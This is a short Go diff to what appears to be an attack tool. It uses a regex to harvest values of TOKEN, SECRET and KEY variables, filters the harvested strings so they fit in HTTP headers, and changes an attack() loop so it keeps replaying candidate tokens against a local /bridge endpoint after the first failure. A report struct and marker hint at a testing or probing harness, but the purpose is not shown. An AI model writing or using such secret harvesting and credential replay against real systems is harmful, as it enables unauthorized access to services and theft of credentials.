@@ -175,12 +175,14 @@ var (
 	tokenVar = regexp.MustCompile(`[A-Z0-9_]*(?:TOKEN|SECRET|KEY)[A-Z0-9_]*=([^\x00\n]+)`)
 )
 
-// candidates are the token-shaped strings of harvest, at most 2000.
+// candidates are the token-shaped strings of harvest that can be sent
+// in a header, at most 2000.
 func candidates(harvest []byte) []string {
 	seen := map[string]bool{}
 	var out []string
 	add := func(s string) {
-		if len(s) >= 8 && !seen[s] && len(out) < 2000 {
+		printable := !strings.ContainsFunc(s, func(r rune) bool { return r < 0x21 || r > 0x7e })
+		if len(s) >= 8 && printable && !seen[s] && len(out) < 2000 {
 			seen[s] = true
 			out = append(out, s)
 		}
@@ -256,7 +258,7 @@ func attack(r *report, port int, cands []string, marker string) listener {
 			l.Accepted = true
 			r.Called = append(r.Called, callAll(url, c, marker)...)
 		}
-		if status <= 0 || status == http.StatusNotFound {
+		if i == 0 && (status <= 0 || status == http.StatusNotFound) {
 			break // nothing serves /bridge here
 		}
 	}
